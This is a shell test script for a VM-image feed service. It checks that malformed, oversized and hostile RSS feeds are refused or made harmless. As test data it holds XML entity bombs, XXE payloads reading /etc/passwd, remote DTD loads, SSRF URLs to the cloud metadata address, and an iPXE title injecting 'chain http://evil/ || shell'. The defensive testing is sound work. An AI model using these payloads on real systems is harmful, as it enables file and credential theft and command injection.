#!/bin/bash
# F17, F19, F21, F22: whatever a publisher puts into a feed, or his server does with it, it is read or refused with the reason; the
# items from before go on, in the menu as well; and nothing but the feed itself is fetched.
# shellcheck disable=SC2317 # functions are handed to `ok`
set -eu
cd "$(dirname "$0")/../.."
. tests/lib.sh
export LC_ALL=C
not_printable=$'[^\n -~]'

start_origin
truncate -s 1M "$origin/disk"
start_vmcastd

# rss [TITLE [UUID]]: a feed of one item
rss()
{
	cat <<-END
		<?xml version="1.0"?>
		<rss version="2.0"><channel><title>feed</title>
		<item><title>${1-item}</title><uuid>${2-one}</uuid><enclosure url="disk" length="1048576"/></item>
		</channel></rss>
	END
}

# many COUNT: a feed with so many items
many()
{
	echo '<rss version="2.0"><channel><title>many</title>'
	seq "$1" | sed 's,.*,<item><title>item &</title><uuid>u&</uuid><enclosure url="d&"/></item>,'
	echo '</channel></rss>'
}

# add URL: subscribe and wait for the first fetch; sets status, said
add()
{
	status=0
	said=$(vmcast feed add --wait "$1" policy=none 2>&1) || status=$?
}

feed_of()
{
	field /v1/feeds ".feeds[] | select(.url | endswith(\"$1\")) | $2"
}

menu()
{
	curl -s "http://127.0.0.1:$vmcastd_port/v1/script?mac=52:54:00:00:00:01&arch=x86_64&platform=pcbios"
}

menu_shows()
{
	menu | grep -qF "$1"
}

rss "Good one" good >"$origin/good.xml"
add "http://127.0.0.1:$origin_port/good.xml"
is "a good feed is read" "$status" 0
wait_ingest disk
ok "and in the menu" menu_shows "Good one"

# What cannot be read. NAME, MESSAGE; the document comes from a function of that name.
malformed() { rss | sed 's/<.item>//'; }
cut() { rss | head -c 150; }
empty() { :; }
html() { echo '<html><body>Not found</body></html>'; }
latin1() { rss 'caf\xe9' | sed 's/\\xe9/\xe9/'; }
unknown-charset() { rss | sed 's/version="1.0"/version="1.0" encoding="klingon"/'; }
wrong-charset() { rss | sed 's/version="1.0"/version="1.0" encoding="utf-16"/'; }
with-dtd() { rss | sed '2i <!DOCTYPE rss>'; }
laughs()
{
	rss '&z;' | sed '2i <!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY z "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
}
passwd() { rss '&p;' | sed '2i <!DOCTYPE rss [<!ENTITY p SYSTEM "file:///etc/passwd">]>'; }
remote-dtd() { rss | sed "2i <!DOCTYPE rss SYSTEM \"http://127.0.0.1:$origin_port/secret.dtd\">"; }
parameter-entity() { rss | sed "2i <!DOCTYPE rss [<!ENTITY % p SYSTEM \"http://127.0.0.1:$origin_port/secret.dtd\"> %p;]>"; }
undefined-entity() { rss '&nowhere;'; }
deep() { rss | sed "s,</item>,$(printf '<a>%.0s' {1..2000})$(printf '</a>%.0s' {1..2000})</item>,"; }
too-many() { many 100000; }
too-long() { rss; head -c 100000000 /dev/zero | tr '\0' ' '; }
nul() { rss | tr u '\0'; }

while IFS='|' read -r name message; do
	"$name" >"$origin/$name.xml"
	add "http://127.0.0.1:$origin_port/$name.xml"
	is "$name: fails" "$status" 1
	like "$name: says why" "$said" "$message"
	like "$name: the service remembers why" "$(feed_of "/$name.xml" .error)" "$message"
	is "$name: has no items" "$(feed_of "/$name.xml" .item_count)" 0
	rm "$origin/$name.xml"
done <<'END'
malformed|line [0-9]+
cut|line [0-9]+
empty|no XML
html|RSS
latin1|encod|UTF-8
unknown-charset|encod
wrong-charset|encod|line|UTF
with-dtd|DTD|DOCTYPE|document type
laughs|DTD|DOCTYPE|document type
passwd|DTD|DOCTYPE|document type
remote-dtd|DTD|DOCTYPE|document type
parameter-entity|DTD|DOCTYPE|document type
undefined-entity|nowhere|ntity
deep|deep|depth|nest
too-many|feed_items_max
too-long|feed_bytes_max
nul|line [0-9]+
END

# What can be read, but for some of it: the items that are left, what is said of the others
odd()
{
	cat <<-'END'
		<rss version="2.0" xmlns:vmcast="urn:vmcast:1"><channel><title>odd</title>
		<item><title>first of its id</title><uuid>same</uuid><enclosure url="a"/></item>
		<item><title>second of its id</title><uuid>same</uuid><enclosure url="b"/></item>
		<item><title>no enclosure</title><uuid>1</uuid></item>
		<item><title>bad length</title><uuid>2</uuid><enclosure url="c" length="-1"/></item>
		<item><title>bad digest</title><uuid>3</uuid><enclosure url="d"/><vmcast:digest>sha256:12</vmcast:digest></item>
		<item><title>local file</title><uuid>4</uuid><enclosure url="file:///etc/passwd"/></item>
		<item><title>other scheme</title><uuid>5</uuid><enclosure url="gopher://127.0.0.1/x"/></item>
		<item><title>metadata</title><uuid>6</uuid><enclosure url="http://169.254.169.254/latest"/></item>
		<item><title>metadata, mapped</title><uuid>7</uuid><enclosure url="http://[::ffff:169.254.169.254]/"/></item>
		<item><title>metadata, as a number</title><uuid>8</uuid><enclosure url="http://2852039166/latest"/></item>
		</channel></rss>
	END
}

item_named()
{
	field /v1/items ".items[] | select(.title == \"$1\") | $2"
}

settled()
{
	[[ $(item_named "$1" .state) == failed ]]
}

odd >"$origin/odd.xml"
add "http://127.0.0.1:$origin_port/odd.xml"
is "odd items: the feed is read" "$status" 0
is "a uuid that comes twice: the first counts" "$(item_named "first of its id" .uuid)/$(item_named "second of its id" .uuid)" "same/"
for title in "no enclosure" "bad length" "bad digest"; do
	is "$title: left out" "$(item_named "$title" .id)" ""
	ok "$title: the log says so" grep -qE "warning: feed .*odd.xml': .*(enclosure|length|digest)" "$work/vmcastd.log"
done
for title in "local file" "other scheme" metadata "metadata, mapped" "metadata, as a number"; do
	[[ -n $(item_named "$title" .id) ]] || continue
	wait_for 60 settled "$title" || true
	like "$title: not fetched" "$(item_named "$title" '"\(.state): \(.error)"')" "failed: .*(not allowed|may not name files|scheme)"
done

# F21: nothing of a title is acted upon, by iPXE, by a terminal or by the log.
# shellcheck disable=SC2016 # iPXE's variable, not the shell's
hostile='x ${initrd} &amp;&amp; chain http://evil/ || shell ; # \ &#9; &#13; &#10; reboot &#x202e;evil'
rss "$hostile$(printf 'y%.0s' {1..4096})" hostile >"$origin/hostile.xml"
add "http://127.0.0.1:$origin_port/hostile.xml"
is "a hostile title: the feed is read" "$status" 0
wait_for 60 menu_shows evil || true
line=$(menu | grep evil || true)
is "a hostile title: is one line of the menu" "$(menu | grep -c evil)" 1
unlike "a hostile title: nothing in it is expanded" "$line" '\$\{initrd'
unlike "a hostile title: no token of it ends the command" "${line#* * }" '(^| )(&&|\|\||;|#)( |$)'
unlike "a hostile title: has printable ASCII only" "$(menu)" "$not_printable"
ok "a hostile title: is cut" test "${#line}" -lt 300
unlike "a hostile title: the log has one line of it, without control bytes" "$(<"$work/vmcastd.log")" "$not_printable"
unlike "a hostile title: no control bytes on the terminal" "$(vmcast item list)" $'[\x01-\x09\x0b-\x1f\x7f]|\xe2\x80\xae'

# The server misbehaves after a good document: the error is shown, the items and the menu go on.
failures_of_still()
{
	feed_of /still.xml .failures
}

one_more_failure()
{
	[[ $(failures_of_still) -gt $1 ]]
}

rss "Still here" still >"$origin/still.xml"
start_proxy "$origin_port"
feed_port=$proxy_port
add "http://127.0.0.1:$feed_port/still.xml"
wait_for 60 menu_shows "Still here"
ok "a feed is in the menu" menu_shows "Still here"
still=$(feed_of /still.xml .id)
nr=0
while IFS='|' read -r fault message; do
	rss "Never seen $((++nr))" still >"$origin/still.xml"
	if [[ $fault == gone ]]; then
		stop_proxy
	else
		start_proxy "$origin_port" --listen "$feed_port" --path still.xml --fault "$fault"
	fi
	before=$(failures_of_still)
	api POST "/v1/feeds/$still/refresh" >"$work/answer" 2>&1
	wait_for 60 one_more_failure "$before" || true
	like "feed server, $fault: says why" "$(feed_of /still.xml .error)" "$message"
	is "feed server, $fault: the item is still there" "$(item_named "Still here" '"\(.state) \(.present)"')" "ready true"
	ok "feed server, $fault: and in the menu" menu_shows "Still here"
done <<'END'
close-head:0|Empty reply
close:0|cut off after 0
close:50%|cut off after
close:-1|cut off after
rst:50%|cut off|reset
length:+3|cut off
length:-20|line [0-9]+
no-length:50%|line [0-9]+
status:404|404
status:410|410
status:500|500
status:503:60|503
redirect:/still.xml|redirect
redirect:file:///etc/passwd|file
redirect:http://169.254.169.254/latest|not allowed
gone|refused|connect
END
start_proxy "$origin_port" --listen "$feed_port"
rss "Back again" still >"$origin/still.xml"
# What changed within the second of its answer has no validator that is good for the next question.
touch -d '1 minute ago' "$origin/still.xml"
vmcast feed refresh "$still" >"$work/answer" 2>&1
is "the feed server is back: no error any more" "$(feed_of /still.xml '"\(.error) \(.failures)"')" "null 0"
ok "the feed server is back: the new title is in the menu" menu_shows "Back again"
vmcast feed refresh "$still" >"$work/answer" 2>&1
is_last_request "asked once more, the server says that nothing changed" "GET /still.xml - 304 0 -"
is "and the items stay" "$(item_named "Back again" '"\(.state) \(.present)"')" "ready true"

is "no document was asked for by one of them" "$(grep -c secret "$work/access.log")" 0
is "nothing of /etc/passwd is anywhere" "$(grep -rlF 'root:x:' "$work/state" "$work/vmcastd.log" | wc -l)" 0
has_sanitizers || ok "100 MB of feed: memory stays small" test "$(awk '/VmHWM/ { print $2 }' "/proc/$vmcastd_pid/status")" -lt 65536
ok "the good feed is still in the menu" menu_shows "Good one"
done_testing
